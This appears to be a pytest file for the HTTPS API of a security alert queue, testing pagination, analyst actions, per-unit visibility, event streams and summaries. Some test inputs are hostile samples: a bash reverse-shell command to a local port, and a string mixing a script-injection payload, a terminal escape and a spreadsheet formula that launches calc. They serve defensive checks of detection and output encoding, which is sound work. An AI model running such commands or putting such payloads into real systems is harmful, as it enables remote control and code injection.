"""The alert queue over HTTPS: from the detector's word to a row, an action and a delta."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from itertools import count
from typing import Any

import pytest
import requests

from collector.messages import Accepted
from tests.api.responder_process import Browser, Running
from tests.incidents.making import HOUR, batch, made

_agents = count(1)


def fill(running: Running, size: int = 3, **given: Any) -> int:
    """Alerts of one agent that no other test uses, one an hour; returns the agent's number."""
    agent = next(_agents)
    matches = [made(n, agent=agent, at=n * HOUR, **given) for n in range(size)]
    assert running.hand_over(batch(*matches)) == Accepted(count=size)
    return agent


def rows(browser: Browser, agent: int, **query: Any) -> dict[str, Any]:
    answer = browser.get("/api/v1/alerts", params={"host": f"host-{agent}", **query})
    assert answer.status_code == 200, answer.text
    document: dict[str, Any] = answer.json()
    return document


def act(browser: Browser, ids: list[str], action: str, note: str = "") -> dict[str, Any]:
    answer = browser.post("/api/v1/alerts/actions", {"ids": ids, "action": action, "note": note})
    assert answer.status_code == 200, answer.text
    document: dict[str, Any] = answer.json()
    return document


class Events:
    """A client of the stream that reads it event by event."""

    def __init__(self, browser: Browser, headers: dict[str, str] | None = None, **query: Any) -> None:
        self.answer = browser.get("/api/v1/stream", params=query, headers=headers or {}, stream=True)
        assert self.answer.status_code == 200
        self._lines = self.answer.iter_lines()

    def next(self) -> tuple[str, str, Any]:
        """The next event: its name, its id, its data."""
        fields = {}
        for raw in self._lines:
            line = raw.decode()
            if not line and "data" in fields:
                return fields["event"], fields.get("id", ""), json.loads(fields["data"])
            name, _, value = line.partition(":")
            fields[name] = value.strip()
        raise EOFError

    def until(self, wanted: Any) -> list[Any]:
        """Read until the condition on all data so far holds; all data."""
        seen: list[Any] = []
        while not wanted(seen):
            seen.append(self.next()[2])
        return seen

    def close(self) -> None:
        self.answer.close()


@pytest.fixture
def events(analyst: Browser) -> Iterator[Events]:
    stream = Events(analyst)
    yield stream
    stream.close()


def test_a_match_becomes_a_row_with_everything_a_person_needs(running: Running, analyst: Browser) -> None:
    agent = fill(running, 1, fields={"CommandLine": "bash -i >& /dev/tcp/127.0.0.1/4444"})
    [row] = rows(analyst, agent)["items"]
    assert row["summary"] == "bash -i >& /dev/tcp/127.0.0.1/4444"
    assert (row["host"], row["user"], row["level"], row["status"]) == (f"host-{agent}", "root", "high", "open")
    assert set(row["titles"]) == {"vi", "en"}
    detail = analyst.get(f"/api/v1/alerts/{row['id']}").json()
    assert row.items() <= detail.items()
    assert detail["events"][0]["logsource"] == {"product": "linux", "category": "process_creation"}
    assert detail["events"][0]["matched"] == ["CommandLine"]
    assert detail["rule_source"].startswith("title:")


def test_pages_say_how_many_there_are_and_join(running: Running, analyst: Browser) -> None:
    agent = fill(running, 7)
    found, cursor = [], ""
    for _ in range(4):
        page = rows(analyst, agent, limit=2, cursor=cursor)
        assert page["total"] == 7
        found += [row["first_us"] for row in page["items"]]
        cursor = page["next"]
    assert cursor is None
    assert found == sorted(found, reverse=True)
    assert len(found) == 7


@pytest.mark.parametrize(
    ("query", "code"),
    [
        ("limit=0", "bad_query"),
        ("limit=201", "bad_query"),
        ("limit=x", "bad_query"),
        ("status=gone", "bad_query"),
        ("level=high,odd", "bad_query"),
        ("unknown=1", "bad_query"),
        ("q=" + "x" * 300, "bad_query"),
        ("cursor=odd!", "bad_cursor"),
    ],
)
def test_a_wrong_query_is_named(analyst: Browser, query: str, code: str) -> None:
    answer = analyst.get(f"/api/v1/alerts?{query}")
    assert (answer.status_code, answer.json()["code"]) == (400, code)


def test_actions_are_by_id_and_kept_with_who_and_why(running: Running, analyst: Browser) -> None:
    agent = fill(running, 2)
    [newer, older] = [row["id"] for row in rows(analyst, agent)["items"]]
    assert act(analyst, [newer, "odd"], "acknowledge", "on it") == {
        "changed": [newer], "unchanged": [], "missing": ["odd"],
    }  # fmt: skip
    assert act(analyst, [newer, older], "close")["changed"] == [newer, older]
    assert act(analyst, [older], "reopen")["changed"] == [older]
    history = analyst.get(f"/api/v1/alerts/{newer}").json()["history"]
    assert [(e["person"], e["action"], e["note"]) for e in history] == [
        ("", "open", ""), ("analyst.police", "acknowledge", "on it"), ("analyst.police", "close", ""),
    ]  # fmt: skip
    assert rows(analyst, agent)["total"] == 1
    assert rows(analyst, agent, status="all")["total"] == 2


@pytest.mark.parametrize(
    "body",
    [
        {"ids": [], "action": "close"},
        {"ids": ["a"], "action": "delete"},
        {"ids": "all", "action": "close"},
        {"action": "close"},
        {"ids": ["a"] * 501, "action": "close"},
        {"ids": ["a"], "action": "close", "note": "x" * 2001},
        {"query": "*", "ids": ["a"], "action": "close"},
    ],
)
def test_an_action_that_names_no_alerts_or_too_many_is_refused(analyst: Browser, body: dict[str, Any]) -> None:
    answer = analyst.post("/api/v1/alerts/actions", body)
    assert (answer.status_code, answer.json()["code"]) == (422, "bad_body")


def test_a_person_sees_and_changes_only_the_own_part_of_the_tree(running: Running, analyst: Browser) -> None:
    agent = fill(running, 1, node="quan-su/ban-chi-huy")
    [alert] = [row["id"] for row in rows(analyst, agent)["items"]]
    commune, army = running.browser("commune"), running.browser("army")
    assert rows(commune, agent)["total"] == 0
    assert commune.get(f"/api/v1/alerts/{alert}").json()["code"] == "not_found"
    assert act(commune, [alert], "close")["missing"] == [alert]
    assert commune.get("/api/v1/summary").json()["open"] == 0
    assert rows(army, agent)["total"] == 1
    assert act(army, [alert], "close")["changed"] == [alert]


def has_changes(seen: list[dict[str, Any]]) -> bool:
    """The first delta of a stream may come before the change has been announced, and says nothing then."""
    return any(delta["changed"] for delta in seen)


def test_the_stream_tells_what_others_do(running: Running, analyst: Browser, events: Events) -> None:
    name, _, first = events.next()
    assert name == "alerts"
    assert set(first["totals"]["by_level"]) == {"critical", "high", "medium", "low", "informational"}
    agent = fill(running, 2)
    host = f"host-{agent}"
    told = events.until(lambda seen: sum(r["host"] == host for d in seen for r in d["changed"]) >= 2)
    ids = [r["id"] for r in told[-1]["changed"] if r["host"] == host]
    act(running.browser("person6"), ids, "close")
    told = events.until(lambda seen: any(r["status"] == "closed" for d in seen for r in d["changed"]))
    assert {r["id"] for r in told[-1]["changed"] if r["status"] == "closed"} >= set(ids)


def test_a_stream_resumes_where_it_was_cut(running: Running, analyst: Browser) -> None:
    stream = Events(analyst)
    _, last, _ = stream.next()
    stream.close()
    agent = fill(running, 3)
    for given in ({"headers": {"Last-Event-ID": last}}, {"after": int(last)}):
        resumed = Events(analyst, **given)  # type: ignore[arg-type]
        changed = [r for d in resumed.until(has_changes) for r in d["changed"]]
        assert sum(r["host"] == f"host-{agent}" for r in changed) == 3
        resumed.close()


def test_a_stream_from_another_time_starts_from_now(running: Running, analyst: Browser) -> None:
    for odd in ("99999999999", "x", "-1", "9" * 40):
        stream = Events(analyst, headers={"Last-Event-ID": odd})
        assert stream.next()[2]["changed"] == []
        stream.close()


def test_many_changes_come_as_few_deltas(running: Running, analyst: Browser, events: Events) -> None:
    events.next()
    agent = next(_agents)
    started = time.monotonic()
    with running.door() as door:
        for n in range(60):
            door.ask(batch(made(n, agent=agent)))
    told = events.until(lambda seen: any(r["count"] == 60 for d in seen for r in d["changed"]))
    elapsed = time.monotonic() - started
    assert len(told) <= 4 * elapsed + 2


def test_a_delta_of_more_than_a_hundred_rows_says_how_many_more(running: Running, analyst: Browser) -> None:
    stream = Events(analyst)
    _, last, _ = stream.next()
    stream.close()
    fill(running, 150)
    resumed = Events(analyst, headers={"Last-Event-ID": last})
    delta = resumed.until(has_changes)[-1]
    assert (len(delta["changed"]), delta["more"]) == (100, 50)
    resumed.close()


def test_a_stream_holds_only_what_its_reader_may_see(running: Running) -> None:
    army = running.browser("army")
    stream = Events(army)
    stream.next()
    fill(running, 1, node="tinh/so")
    own = fill(running, 1, node="quan-su")
    told = stream.until(lambda seen: any(d["changed"] for d in seen))
    assert {r["host"] for d in told for r in d["changed"]} == {f"host-{own}"}
    stream.close()


def test_a_person_has_a_bounded_number_of_streams(running: Running) -> None:
    browser = running.browser("person7")
    streams = [Events(browser) for _ in range(16)]
    for stream in streams:
        stream.next()
    refused = browser.get("/api/v1/stream")
    assert (refused.status_code, refused.json()["code"]) == (429, "too_many_streams")
    for stream in streams:
        stream.close()
    deadline = time.monotonic() + 10
    while (answer := browser.get("/api/v1/stream", stream=True)).status_code != 200:
        assert time.monotonic() < deadline, "closed streams are still counted"
        time.sleep(0.05)
    answer.close()


def test_many_readers_at_once_all_get_the_same(running: Running, analyst: Browser) -> None:
    agent = fill(running, 5)

    def read(_: int) -> list[str]:
        return [row["id"] for row in rows(analyst, agent)["items"]]

    with ThreadPoolExecutor(8) as threads:
        answers = list(threads.map(read, range(40)))
    assert all(answer == answers[0] for answer in answers)
    assert len(answers[0]) == 5


def test_the_summary_counts_what_the_person_sees(running: Running, analyst: Browser) -> None:
    before = analyst.get("/api/v1/summary").json()
    agent = fill(running, 2, level="critical")
    after = analyst.get("/api/v1/summary").json()
    assert after["open"] == before["open"] + 2
    assert after["by_level"]["critical"] == before["by_level"]["critical"] + 2
    act(analyst, [row["id"] for row in rows(analyst, agent)["items"]], "close")
    assert analyst.get("/api/v1/summary").json()["open"] == before["open"]
    staff = running.browser("it_staff.ict").get("/api/v1/summary").json()
    assert staff["open"] == 0


def test_hostile_text_comes_out_as_json_and_nothing_else(running: Running, analyst: Browser) -> None:
    hostile = "</script><script>alert(1)</script>\u202e\x1b[2J\0=cmd|' /C calc'!A0"
    agent = fill(running, 1, fields={"CommandLine": hostile, "User": hostile})
    answer = analyst.get("/api/v1/alerts", params={"host": f"host-{agent}"})
    assert answer.headers["content-type"] == "application/json"
    assert answer.headers["x-content-type-options"] == "nosniff"
    [row] = answer.json()["items"]
    detail = analyst.get(f"/api/v1/alerts/{row['id']}").json()
    assert detail["events"][0]["fields"]["CommandLine"] == hostile


def test_a_deleted_or_foreign_alert_is_not_found(analyst: Browser) -> None:
    for odd in ("0" * 32, "x", "%2e%2e", "a" * 5_000, "%00"):
        answer = analyst.get(f"/api/v1/alerts/{odd}")
        assert (answer.status_code, answer.json()["code"]) == (404, "not_found"), odd


def test_a_session_that_ends_ends_its_stream(running: Running) -> None:
    browser = running.browser("analyst.military")
    stream = Events(browser)
    stream.next()
    assert browser.call("DELETE", "/api/v1/session").status_code == 204
    names = []
    while "signed_out" not in names:
        names.append(stream.next()[0])
    with pytest.raises((EOFError, requests.RequestException)):
        stream.next()
